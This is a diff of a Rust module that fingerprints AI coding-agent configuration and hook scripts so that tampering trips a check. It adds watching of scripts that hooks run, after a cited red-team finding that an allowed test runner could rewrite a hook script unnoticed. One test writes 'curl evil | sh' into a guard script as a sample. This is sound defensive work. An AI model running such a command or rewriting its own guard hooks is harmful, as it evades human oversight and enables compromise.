@@ -90,7 +90,63 @@ pub const WATCHED: &[&str] = &[
     ".opencode",
     "opencode.json",
     "opencode.jsonc",
+    // Added after the first record format (named entries since `agentcfg2`: a name a record
+    // lacks is recorded at the next call, not a change).
+    ".factory/settings.local.json",
+    ".factory/hooks.json",
+    ".factory/skills",
+    ".github/copilot",
+    ".cursor/hooks",
+    ".gemini/hooks",
 ];
+
+/// The list the first record format (`agentcfg1`) held positionally: such a record is read
+/// entry by entry against it.
+const WATCHED_V1: &[&str] = &[
+    ".claude/settings.json",
+    ".claude/settings.local.json",
+    ".claude/hooks",
+    ".claude/commands",
+    ".claude/agents",
+    ".claude/skills",
+    ".claude/output-styles",
+    ".mcp.json",
+    ".gemini/settings.json",
+    ".gemini/policies",
+    ".gemini/commands",
+    ".gemini/extensions",
+    ".github/hooks",
+    ".github/agents",
+    ".github/skills",
+    ".agents",
+    ".cursor/hooks.json",
+    ".cursor/cli.json",
+    ".cursor/mcp.json",
+    ".codex",
+    ".vscode/settings.json",
+    ".vscode/mcp.json",
+    ".vscode/tasks.json",
+    ".factory/settings.json",
+    ".factory/mcp.json",
+    ".factory/hooks",
+    ".factory/droids",
+    ".vibe",
+    ".opencode",
+    "opencode.json",
+    "opencode.jsonc",
+];
+
+/// Names of the scripts the project configuration runs start with this (then the path,
+/// relative to the root when under it): `@scripts/guard.sh`.
+const SCRIPT: char = '@';
+/// How many such scripts are watched; past it one entry that never compares equal stands
+/// for the rest (every call denies until the list is shorter).
+const MAX_SCRIPTS: usize = 32;
+/// That entry's name.
+const TOO_MANY_SCRIPTS: &str = "@(too many scripts to watch)";
+
+/// A record: each watched name and its print.
+type Prints = Vec<(String, Print)>;
 
 /// The file whose `permissions.allow` additions are Claude's own ("don't ask again").
 const CLAUDE_LOCAL: &str = ".claude/settings.local.json";
@@ -99,7 +155,8 @@ pub const MAX_ENTRIES: usize = 16_384;
 pub const MAX_DEPTH: usize = 16;
 /// Content read per file (agent configuration is small; the rest is covered by the size).
 const MAX_READ: u64 = 1 << 20;
-const TAG: &str = "agentcfg1";
+const TAG: &str = "agentcfg2";
+const TAG_V1: &str = "agentcfg1";
 
 /// What one watched path is now.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -484,7 +541,7 @@ fn record_name(root: &Path) -> String {
 }
 
 /// The recorded fingerprints of `root`: `Ok(None)` when there is no record.
-fn read(state_dir: &Path, root: &Path) -> Result<Option<Vec<Print>>, RecordError> {
+fn read(state_dir: &Path, root: &Path) -> Result<Option<Prints>, RecordError> {
     let p = state_dir.join(DIR).join(record_name(root));
     let damaged = || RecordError::Damaged(p.clone());
     let text = match state::read_record(&p) {
@@ -498,55 +555,142 @@ fn read(state_dir: &Path, root: &Path) -> Result<Option<Vec<Print>>, RecordError
         }
     };
     let f = state::unseal(&text).ok_or_else(damaged)?;
-    if f.len() != 2 + WATCHED.len() || f[0] != TAG || Path::new(f[1]) != root {
+    if f.len() < 2 || Path::new(f[1]) != root {
         return Err(damaged());
     }
-    f[2..]
-        .iter()
-        .map(|s| Print::decode(s).ok_or_else(damaged))
+    let named: Vec<(&str, &str)> = match f[0] {
+        TAG_V1 if f.len() == 2 + WATCHED_V1.len() => {
+            WATCHED_V1.iter().copied().zip(f[2..].iter().copied()).collect()
+        }
+        TAG if f.len() % 2 == 0 => f[2..].chunks(2).map(|c| (c[0], c[1])).collect(),
+        _ => return Err(damaged()),
+    };
+    named
+        .into_iter()
+        .map(|(n, s)| Ok((n.to_string(), Print::decode(s).ok_or_else(damaged)?)))
         .collect::<Result<Vec<_>, _>>()
         .map(Some)
 }
 
-fn write(state_dir: &Path, root: &Path, prints: &[Print]) -> std::io::Result<()> {
+fn write(state_dir: &Path, root: &Path, prints: &Prints) -> std::io::Result<()> {
     let dir = state_dir.join(DIR);
     state::ensure_dir(&dir)?;
+    let clean = |s: &str| !s.contains(['\t', '\n']);
     let r = root
         .to_str()
-        .filter(|r| !r.contains(['\t', '\n']))
+        .filter(|r| clean(r))
         .ok_or_else(|| std::io::Error::other("root is not UTF-8 or holds a tab or newline"))?;
-    let enc: Vec<String> = prints.iter().map(Print::encode).collect();
+    let enc: Vec<String> = prints.iter().map(|(_, p)| p.encode()).collect();
     let mut fields = vec![TAG, r];
-    fields.extend(enc.iter().map(String::as_str));
+    for ((name, _), e) in prints.iter().zip(&enc) {
+        // Names are the fixed list's and scripts filtered by `script_names`.
+        debug_assert!(clean(name));
+        fields.push(name);
+        fields.push(e);
+    }
     state::replace_record(&dir, &record_name(root), &state::seal(&fields))
 }
 
-fn now(root: &Path, known: Option<&[Print]>) -> Vec<Print> {
+/// The names to watch under `root`: the fixed list, then the scripts the project
+/// configuration runs. Those come from the record while it holds every fixed name (the
+/// configuration that names them is watched: a change to it trips, and `polc confirm`
+/// records the list again); at first sight, and after an upgrade that added fixed names,
+/// the configuration is read for them.
+fn names(root: &Path, old: Option<&Prints>) -> Vec<String> {
+    let mut v: Vec<String> = WATCHED.iter().map(|w| w.to_string()).collect();
+    // Records are written in this order, so a current record starts with the fixed list.
+    let complete = old.filter(|o| {
+        o.len() >= WATCHED.len() && o.iter().zip(WATCHED).all(|((n, _), w)| n == w)
+    });
+    match complete {
+        Some(o) => v.extend(
+            o.iter()
+                .filter(|(n, _)| n.starts_with(SCRIPT))
+                .map(|(n, _)| n.clone()),
+        ),
+        None => v.extend(script_names(root)),
+    }
+    v
+}
+
+/// The scripts (not their arguments) the project's agent configuration runs, as record
+/// names (red team, session 6: a hook script rewritten by code an allowed test runner ran
+/// was not noticed). Scripts inside a watched path are watched with it; a folder, the root
+/// or an ancestor of it is not a script (its listing changes with any work).
+fn script_names(root: &Path) -> Vec<String> {
+    let (found, _) = crate::runtime::protect::referenced_scripts(root, &[]);
+    let mut out: Vec<String> = found
+        .into_iter()
+        .filter(|(p, ask)| !ask && !root.starts_with(p))
+        .filter(|(p, _)| std::fs::metadata(p).map_or(true, |m| !m.is_dir()))
+        .filter_map(|(p, _)| {
+            // `a/./b` is `a/b` (a word relative to the configuration file's folder).
+            let p: PathBuf = p.components().collect();
+            let rel = p.strip_prefix(root).map_or(p.clone(), Path::to_path_buf);
+            let rel = rel.to_str()?.to_string();
+            let inside = WATCHED.iter().any(|w| Path::new(&rel).starts_with(w));
+            (!rel.is_empty() && !rel.contains(['\t', '\n']) && !inside)
+                .then(|| format!("{SCRIPT}{rel}"))
+        })
+        .collect();
+    out.sort();
+    out.dedup();
+    if out.len() > MAX_SCRIPTS {
+        out.truncate(MAX_SCRIPTS);
+        out.push(TOO_MANY_SCRIPTS.to_string());
+    }
+    out
+}
+
+/// The path a record name stands for (a script's may be absolute: `join` keeps it).
+fn path_of(root: &Path, name: &str) -> PathBuf {
+    root.join(name.strip_prefix(SCRIPT).unwrap_or(name))
+}
+
+fn now(root: &Path, known: Option<&Prints>) -> Prints {
     // Most watched paths sit in a few folders (`.claude/`, `.gemini/`, `.github/`, …) that
     // a project mostly lacks: one `lstat` of an absent folder answers for everything under
     // it (a lookup under a missing component is "no such file" too, so the prints are the
-    // ones `print` would give). 31 `lstat`s become 13 when none exists (each a system call,
+    // ones `print` would give). 37 `lstat`s become 13 when none exists (each a system call,
     // microseconds on a VM, on every hook call). Only "no such file" is taken as absent: a
     // folder that is a link, a file or unreadable is looked into path by path as before.
-    let mut absent: Vec<(&str, bool)> = Vec::new();
+    let mut absent: Vec<(String, bool)> = Vec::new();
     let mut probe = Probe::new(root);
-    WATCHED
-        .iter()
+    // The record's entry for a name: at the same place when the lists agree (the usual
+    // case: no search on the hook path), else found by name.
+    let known_of = |i: usize, n: &str| {
+        let k = known?;
+        match k.get(i) {
+            Some((m, p)) if m == n => Some(p),
+            _ => k.iter().find(|(m, _)| m == n).map(|(_, p)| p),
+        }
+    };
+    names(root, known)
+        .into_iter()
         .enumerate()
-        .map(|(i, rel)| {
-            let top = rel.split_once('/').map_or(*rel, |(top, _)| top);
-            let gone = match absent.iter().find(|(t, _)| *t == top) {
+        .map(|(i, name)| {
+            if name == TOO_MANY_SCRIPTS {
+                return (name, Print::TooLarge);
+            }
+            if let Some(rel) = name.strip_prefix(SCRIPT) {
+                let p = print(root, rel, known_of(i, &name));
+                return (name, p);
+            }
+            let top = name.split_once('/').map_or(name.as_str(), |(t, _)| t);
+            let gone = match absent.iter().find(|(t, _)| t == top) {
                 Some(&(_, g)) => g,
                 None => {
                     let g = probe.not_found(top);
-                    absent.push((top, g));
+                    absent.push((top.to_string(), g));
                     g
                 }
             };
-            if gone {
-                return Print::Absent;
-            }
-            print(root, rel, known.and_then(|k| k.get(i)))
+            let p = if gone {
+                Print::Absent
+            } else {
+                print(root, &name, known_of(i, &name))
+            };
+            (name, p)
         })
         .collect()
 }
@@ -622,19 +766,25 @@ fn same(old: &Print, new: &Print) -> bool {
     }
 }
 
-fn changes(root: &Path, old: &[Print], new: &[Print]) -> Vec<Change> {
-    WATCHED
-        .iter()
-        .zip(old.iter().zip(new))
-        .filter(|(_, (o, n))| !same(o, n))
-        .map(|(rel, (o, n))| Change {
-            path: root.join(rel),
-            what: match (o, n) {
-                (Print::Absent, _) => "appeared",
-                (_, Print::Absent) => "disappeared",
-                (_, Print::TooLarge) => "is too large to watch (make it smaller)",
-                _ => "changed",
-            },
+/// What differs between a record and now. A name the record lacks (added to the fixed list
+/// by an upgrade, or a script listed since) is not a change: it is recorded at this call.
+fn changes(root: &Path, old: &Prints, new: &Prints) -> Vec<Change> {
+    new.iter()
+        .enumerate()
+        .filter_map(|(i, (name, n))| {
+            let (_, o) = match old.get(i) {
+                Some(e) if e.0 == *name => e,
+                _ => old.iter().find(|(k, _)| k == name)?,
+            };
+            (!same(o, n)).then(|| Change {
+                path: path_of(root, name),
+                what: match (o, n) {
+                    (Print::Absent, _) => "appeared",
+                    (_, Print::Absent) => "disappeared",
+                    (_, Print::TooLarge) => "is too large to watch (make it smaller)",
+                    _ => "changed",
+                },
+            })
         })
         .collect()
 }
@@ -679,7 +829,11 @@ pub fn pending(at: &Places, root: &Path) -> (Vec<Change>, bool) {
         Ok(None) => (Vec::new(), false),
         // A damaged record: everything present is to be reviewed.
         Err(_) => (
-            changes(root, &vec![Print::Absent; WATCHED.len()], &now(root, None)),
+            {
+                let new = now(root, None);
+                let none = new.iter().map(|(n, _)| (n.clone(), Print::Absent)).collect();
+                changes(root, &none, &new)
+            },
             true,
         ),
     }
@@ -777,9 +931,9 @@ pub fn record_written(at: &Places, root: &Path, written: &Path) -> std::io::Resu
     let Ok(Some(mut old)) = read(&at.state, root) else {
         return record(at, root);
     };
-    for (i, rel) in WATCHED.iter().enumerate() {
-        if written.starts_with(root.join(rel)) {
-            old[i] = print(root, rel, None);
+    for (name, p) in old.iter_mut() {
+        if written.starts_with(path_of(root, name)) {
+            *p = print(root, name.strip_prefix(SCRIPT).unwrap_or(name), None);
         }
     }
     write(&at.state, root, &old)
@@ -825,6 +979,11 @@ pub fn verdict(at: Option<&Places>, roots: &[&Path]) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// The fixed list's prints of a record, in order.
+    fn fixed(p: Prints) -> Vec<Print> {
+        p.into_iter().take(WATCHED.len()).map(|(_, p)| p).collect()
+    }
 
     fn setup() -> (tempfile::TempDir, PathBuf, Places) {
         let t = tempfile::tempdir().unwrap();
@@ -889,7 +1048,7 @@ mod tests {
         std::os::unix::fs::symlink(t.path().join("nowhere"), root.join(".cursor")).unwrap();
         std::fs::create_dir_all(root.join(".vscode")).unwrap();
         let each: Vec<Print> = WATCHED.iter().map(|r| print(&root, r, None)).collect();
-        assert_eq!(now(&root, None), each);
+        assert_eq!(fixed(now(&root, None)), each);
         assert!(matches!(each[0], Print::File { .. }), "{:?}", each[0]);
         // Then a file appears under a folder that was absent: seen.
         assert_eq!(check(&st, &root), Ok(Seen::Same));
@@ -921,7 +1080,7 @@ mod tests {
             assert!(!p.not_found("opencode.json/x"));
             assert!(!p.not_found("a\0b"));
             let each: Vec<Print> = WATCHED.iter().map(|w| print(&r, w, None)).collect();
-            assert_eq!(now(&r, None), each);
+            assert_eq!(fixed(now(&r, None)), each);
         }
         // A root no lookup can name.
         assert!(!Probe::new(Path::new("/tmp/a\0b")).not_found("x"));
@@ -1199,5 +1358,134 @@ mod tests {
         ] {
             assert_eq!(Print::decode(&p.encode()), Some(p));
         }
+    }
+
+    /// A record of the first format (positional over the first 31 names) still checks: an
+    /// edit to a path it held trips, and the names added since are recorded at the next
+    /// call, after which their changes trip too (an upgrade never reads as a change, and a
+    /// newly watched host file is not left unwatched).
+    #[test]
+    fn a_first_format_record_is_read_by_name_and_new_names_are_recorded() {
+        let (_t, root, st) = setup();
+        std::fs::write(root.join(".mcp.json"), "{}").unwrap();
+        std::fs::create_dir_all(root.join(".factory")).unwrap();
+        std::fs::write(root.join(".factory/hooks.json"), "{}").unwrap();
+        let r = root.to_str().unwrap();
+        let enc: Vec<String> = WATCHED_V1
+            .iter()
+            .map(|w| print(&root, w, None).encode())
+            .collect();
+        let mut fields = vec![TAG_V1, r];
+        fields.extend(enc.iter().map(String::as_str));
+        let dir = st.state.join(DIR);
+        state::ensure_dir(&dir).unwrap();
+        state::replace_record(&dir, &record_name(&root), &state::seal(&fields)).unwrap();
+        assert_eq!(check(&st, &root), Ok(Seen::Same), "an upgrade is not a change");
+        let rec = read(&st.state, &root).unwrap().unwrap();
+        assert!(WATCHED.iter().all(|w| rec.iter().any(|(n, _)| n == w)));
+        std::fs::write(root.join(".factory/hooks.json"), r#"{"hooks":{}}"#).unwrap();
+        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
+            panic!("a newly watched file's edit must trip")
+        };
+        assert_eq!(ch[0].path, root.join(".factory/hooks.json"));
+        // And a first-format record of the wrong length is damaged, not first sight.
+        let short = state::seal(&[TAG_V1, r, "-"]);
+        state::replace_record(&dir, &record_name(&root), &short).unwrap();
+        assert!(matches!(check(&st, &root), Err(RecordError::Damaged(_))));
+    }
+
+    /// Each host file protected since the first list is watched: one appearing trips.
+    #[test]
+    fn host_files_added_to_the_list_trip() {
+        for rel in [
+            ".factory/settings.local.json",
+            ".factory/skills/x/SKILL.md",
+            ".github/copilot/settings.json",
+            ".cursor/hooks/pre.sh",
+            ".gemini/hooks/x.sh",
+        ] {
+            let (_t, root, st) = setup();
+            assert_eq!(check(&st, &root), Ok(Seen::Same));
+            let p = root.join(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(&p, "x").unwrap();
+            assert!(
+                matches!(check(&st, &root), Ok(Seen::Changed(_))),
+                "{rel} appeared unnoticed"
+            );
+        }
+    }
+
+    /// Red team, session 6 (C6-hookscripts-13): a script the project configuration runs,
+    /// rewritten by code an allowed program ran (out of band), trips at the next call; so
+    /// does one outside the project; the script's arguments and folders are not watched.
+    #[test]
+    fn scripts_the_configuration_runs_are_watched() {
+        let (t, root, st) = setup();
+        let outside = t.path().join("tools/notify.py");
+        std::fs::create_dir_all(outside.parent().unwrap()).unwrap();
+        std::fs::write(&outside, "print(1)").unwrap();
+        std::fs::create_dir_all(root.join(".claude")).unwrap();
+        std::fs::create_dir_all(root.join("scripts")).unwrap();
+        std::fs::write(root.join("scripts/guard.sh"), "exit 0").unwrap();
+        std::fs::write(root.join("scripts/data.txt"), "a").unwrap();
+        let settings = serde_json::json!({
+            "hooks": {"PreToolUse": [{"hooks": [
+                {"type": "command", "command": "bash \"$CLAUDE_PROJECT_DIR\"/scripts/guard.sh scripts/data.txt"},
+                {"type": "command", "command": format!("python3 {}", outside.display())},
+                {"type": "command", "command": "bash ./scripts/"}
+            ]}]}
+        });
+        std::fs::write(root.join(".claude/settings.json"), settings.to_string()).unwrap();
+        assert_eq!(check(&st, &root), Ok(Seen::Same));
+        let rec = read(&st.state, &root).unwrap().unwrap();
+        let scripts: Vec<&str> = rec
+            .iter()
+            .filter(|(n, _)| n.starts_with(SCRIPT))
+            .map(|(n, _)| n.as_str())
+            .collect();
+        let out = format!("@{}", outside.display());
+        // `./scripts/` is the project's folder (not a script) or, read from the settings
+        // file's folder, `.claude/scripts`, absent: watched in case it appears.
+        assert_eq!(
+            scripts,
+            ["@.claude/scripts", out.as_str(), "@scripts/guard.sh"],
+            "{rec:?}"
+        );
+        // An argument changing is not a change; the script is.
+        std::fs::write(root.join("scripts/data.txt"), "b").unwrap();
+        assert_eq!(check(&st, &root), Ok(Seen::Same));
+        std::fs::write(root.join("scripts/guard.sh"), "curl evil | sh").unwrap();
+        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
+            panic!("a rewritten hook script must trip")
+        };
+        assert_eq!(ch[0].path, root.join("scripts/guard.sh"));
+        record(&st, &root).unwrap();
+        std::fs::write(&outside, "import os").unwrap();
+        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
+            panic!("a rewritten script outside the project must trip")
+        };
+        assert_eq!(ch[0].path, outside);
+        record(&st, &root).unwrap();
+        std::fs::remove_file(root.join("scripts/guard.sh")).unwrap();
+        assert!(matches!(check(&st, &root), Ok(Seen::Changed(_))));
+    }
+
+    /// Past the bound on watched scripts, the rest cannot be compared: every call reports it
+    /// (deny) rather than leaving scripts unwatched.
+    #[test]
+    fn more_scripts_than_the_bound_never_read_as_unchanged() {
+        let (_t, root, st) = setup();
+        let hooks: Vec<serde_json::Value> = (0..MAX_SCRIPTS + 2)
+            .map(|i| serde_json::json!({"type": "command", "command": format!("sh s/h{i}.sh")}))
+            .collect();
+        let settings = serde_json::json!({"hooks": {"PreToolUse": [{"hooks": hooks}]}});
+        std::fs::create_dir_all(root.join(".claude")).unwrap();
+        std::fs::write(root.join(".claude/settings.json"), settings.to_string()).unwrap();
+        assert_eq!(check(&st, &root), Ok(Seen::Same), "first sight records");
+        let Ok(Seen::Changed(ch)) = check(&st, &root) else {
+            panic!("past the bound must never be the same")
+        };
+        assert_eq!(ch[0].what, "is too large to watch (make it smaller)");
     }
 }
